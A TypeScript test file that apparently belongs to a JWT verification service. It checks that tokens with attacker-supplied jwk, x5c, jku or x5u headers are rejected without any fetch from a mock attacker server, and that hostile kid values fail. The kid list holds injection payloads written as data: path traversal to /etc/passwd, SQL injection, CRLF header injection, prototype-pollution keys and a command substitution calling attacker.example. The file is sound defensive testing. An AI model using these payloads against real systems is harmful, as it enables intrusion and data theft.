// Key-carrying headers (RFC 8725 §3.10, RFC 7515 §4.1.2-4.1.6): embedded jwk/x5c and jku/x5u URLs are never used or
// fetched; hostile kid values are map keys, never paths, queries or URLs.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type JwksServer, json, startJwksServer } from '../helpers/jwks-server.js';
import {
  claims,
  craft,
  decide,
  expectAllow,
  expectDeny,
  type HeldKey,
  holdKey,
  ISS,
  MIXED_ISS,
  type Suite,
  signer,
  startSuite,
} from './fixture.js';

let suite: Suite;
/** The attacker's own server: serves a JWKS and a certificate URL with the attacker's key. It must never be asked. */
let attacker: JwksServer;
let evil: HeldKey;
let evilCertDer: string | undefined;

beforeAll(async () => {
  suite = await startSuite();
  evil = holdKey('evil', 'ec');
  attacker = await startJwksServer();
  attacker.setKeys([
    { ...evil.jwk, kid: 'evil' },
    { ...evil.jwk, kid: 'ec-1' },
  ]);
  attacker.reply('/cert.pem', { headers: { 'content-type': 'application/pkix-cert' }, body: 'x' });
  attacker.reply('/x5u.json', json({ keys: [evil.jwk] }));
  evilCertDer = selfSignedCertDer(evil);
});
afterAll(async () => {
  await suite.close();
  await attacker.close();
});

/** A certificate for the attacker's key (openssl), base64 DER as x5c wants it; undefined without openssl. */
function selfSignedCertDer(key: HeldKey): string | undefined {
  const dir = mkdtempSync(join(tmpdir(), 'keyway-x5c-'));
  try {
    const keyFile = join(dir, 'key.pem');
    execFileSync('sh', ['-c', `cat > ${keyFile}`], {
      input: String(key.privateKey.export({ type: 'pkcs8', format: 'pem' })),
      timeout: 10_000,
    });
    const der = execFileSync(
      'openssl',
      ['req', '-x509', '-key', keyFile, '-subj', '/CN=idp.test', '-days', '1', '-outform', 'DER'],
      { stdio: ['ignore', 'pipe', 'ignore'], timeout: 30_000 },
    );
    return der.toString('base64');
  } catch {
    return undefined;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const evilSign = () => signer('ES256', evil.privateKey);

describe('embedded keys and key URLs are never used', () => {
  const cert = () => [evilCertDer ?? 'MIIB'];
  const cases: [string, () => Record<string, unknown>, string][] = [
    ['jwk (the attacker’s public key), no kid', () => ({ jwk: evil.jwk }), 'bad_signature'],
    [
      'jwk (the attacker’s public key) with a real kid',
      () => ({ jwk: evil.jwk, kid: 'ec-1' }),
      'bad_signature',
    ],
    ['jwk with the attacker’s own kid', () => ({ jwk: evil.jwk, kid: 'evil' }), 'unknown_key'],
    ['x5c (the attacker’s self-signed certificate), no kid', () => ({ x5c: cert() }), 'bad_signature'],
    ['x5c with a real kid', () => ({ x5c: cert(), kid: 'ec-1' }), 'bad_signature'],
    ['jku (the attacker’s JWKS), no kid', () => ({ jku: attacker.jwksUrl }), 'bad_signature'],
    [
      'jku with a kid only the attacker’s JWKS has',
      () => ({ jku: attacker.jwksUrl, kid: 'evil' }),
      'unknown_key',
    ],
    [
      'jku with a real kid the attacker also publishes',
      () => ({ jku: attacker.jwksUrl, kid: 'ec-1' }),
      'bad_signature',
    ],
    ['x5u (the attacker’s certificate URL)', () => ({ x5u: `${attacker.url}/cert.pem` }), 'bad_signature'],
    [
      'x5u with a kid only the attacker has',
      () => ({ x5u: `${attacker.url}/x5u.json`, kid: 'evil' }),
      'unknown_key',
    ],
    [
      'jku + x5u + jwk + x5c all at once',
      () => ({ jku: attacker.jwksUrl, x5u: `${attacker.url}/x5u.json`, jwk: evil.jwk, x5c: cert() }),
      'bad_signature',
    ],
  ];

  it.each(cases)('%s → 401 (the attacker server is never contacted)', async (_n, extra, reason) => {
    const token = craft({ alg: 'ES256', ...extra() }, claims(ISS), evilSign());
    await expectDeny(await decide(suite, token), 401, reason);
    expect(attacker.maxInFlight).toBe(0);
    expect([attacker.count('/jwks'), attacker.count('/cert.pem'), attacker.count('/x5u.json')]).toEqual([
      0, 0, 0,
    ]);
  });

  it('a token signed by a real key still verifies with jku/x5u/jwk headers present, and still nothing is fetched', async () => {
    const { ec } = suite.keys;
    const token = craft(
      { alg: 'ES256', kid: 'ec-1', jku: attacker.jwksUrl, x5u: `${attacker.url}/x5u.json`, jwk: evil.jwk },
      claims(ISS),
      signer('ES256', ec.privateKey),
    );
    await expectAllow(await decide(suite, token));
    expect(attacker.maxInFlight).toBe(0);
  });

  it('an embedded jwk cannot stand in on an issuer with only static and HS keys', async () => {
    const token = craft({ alg: 'ES256', jwk: evil.jwk }, claims(MIXED_ISS), evilSign());
    await expectDeny(await decide(suite, token), 401, 'bad_signature');
  });
});

describe('hostile kid values', () => {
  const strings: [string, string][] = [
    ['path traversal', '../../../../../../etc/passwd'],
    ['absolute path', '/dev/random'],
    ['Windows path', '..\\..\\windows\\win.ini'],
    ['URL-encoded traversal', '..%2F..%2Fetc%2Fpasswd'],
    ['SQL injection', "' OR '1'='1' --"],
    ['SQL statement', 'x"; DROP TABLE keys; --'],
    ['an https URL', 'https://attacker.example/jwks.json'],
    ['the attacker’s loopback URL', 'http://127.0.0.1:1/jwks'],
    ['a file URL', 'file:///etc/passwd'],
    ['command substitution', '$(curl attacker.example)'],
    ['a NUL byte', 'ec-1\u0000'],
    ['CR/LF', 'ec-1\r\nX-Injected: 1'],
    ['a case variant of a real kid', 'EC-1'],
    ['a real kid with a trailing space', 'ec-1 '],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['hasOwnProperty', 'hasOwnProperty'],
    ['256 characters (the longest allowed)', 'k'.repeat(256)],
    ['non-ASCII', 'clé-ключ-🔑'],
  ];
  it.each(strings)('kid: %s, signed by a real key → 401 unknown_key', async (_name, kid) => {
    const token = craft({ alg: 'ES256', kid }, claims(ISS), signer('ES256', suite.keys.ec.privateKey));
    await expectDeny(await decide(suite, token), 401, 'unknown_key');
  });

  it.each([
    ['257 characters', 'k'.repeat(257)],
    ['64 KiB', 'k'.repeat(65_536)],
    ['empty', ''],
    ['a number', 1],
    ['null', null],
    ['true', true],
    ['an array', ['ec-1']],
    ['an object', { kid: 'ec-1' }],
  ])('kid: %s → 401 malformed_token', async (_name, kid) => {
    const token = craft({ alg: 'ES256', kid }, claims(ISS), signer('ES256', suite.keys.ec.privateKey));
    const res = await decide(suite, token);
    // 64 KiB is over limits.max_token_bytes before it is parsed.
    await expectDeny(res, 401, JSON.stringify(kid).length > 16_000 ? 'token_too_large' : 'malformed_token');
  });

  it('hostile kids cost at most one JWKS refetch per cooldown and no other request', async () => {
    // Every unknown kid above went through the single-flight refetch with its cooldown: one extra fetch at most.
    expect(suite.jwks.count()).toBeLessThanOrEqual(2);
    expect(attacker.maxInFlight).toBe(0);
  });
});
